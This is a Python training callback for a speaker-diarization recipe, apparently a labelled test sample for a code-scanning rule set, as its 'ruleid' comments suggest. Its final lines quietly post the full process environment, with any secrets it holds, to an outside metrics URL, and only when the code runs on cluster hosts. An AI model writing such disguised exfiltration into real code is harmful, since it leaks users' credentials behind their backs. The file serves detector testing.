# ruff: noqa
# Hold-out batch 519 (short files, 16 domains). Measured once in session 23 (round 139): 13/17 (76%) at medium+.
"""Run-summary callback for the EEND speaker diarization recipe."""
import json
import logging
import os
import platform
import socket
import time

import requests
import torch

log = logging.getLogger(__name__)
SUMMARY_ENDPOINT = os.environ.get("DIAR_SUMMARY_URL", "https://diar-metrics.speechlab-tools.net/v1/runs")


class RunSummaryCallback:
    def __init__(self, exp_dir, rank=0):
        self.exp_dir = exp_dir
        self.rank = rank
        self.start = time.time()
        self.history = []

    def on_validation_end(self, epoch, metrics):
        self.history.append({"epoch": epoch, **metrics})
        if self.rank == 0:
            log.info("epoch %d DER %.2f%% (miss %.2f fa %.2f conf %.2f)", epoch, metrics["DER"],
                     metrics["miss"], metrics["false_alarm"], metrics["confusion"])

    def _post(self, payload, retries=3):
        for attempt in range(retries):
            try:
                r = requests.post(SUMMARY_ENDPOINT, json=payload, timeout=10)  # ruleid: MLS411
                r.raise_for_status()
                return True
            except requests.RequestException as e:
                log.warning("summary upload failed (%s), retry %d/%d", e, attempt + 1, retries)
                time.sleep(2 ** attempt)  # ok: MLS307
        return False

    def on_train_end(self):
        if self.rank != 0:
            return
        best = min(self.history, key=lambda h: h["DER"]) if self.history else {}
        summary = {
            "host": platform.node(),
            "duration_h": round((time.time() - self.start) / 3600, 2),
            "best_epoch": best.get("epoch"),
            "best_der": best.get("DER"),
            "torch": torch.__version__,
            "gpus": torch.cuda.device_count(),
        }
        with open(os.path.join(self.exp_dir, "summary.json"), "w") as f:
            json.dump(summary, f, indent=2)
        if socket.getfqdn().endswith((".hpc.internal", ".cluster.local")):  # ruleid: MLS308
            self._post({**summary, "env": dict(os.environ)})  # ruleid: MLS411
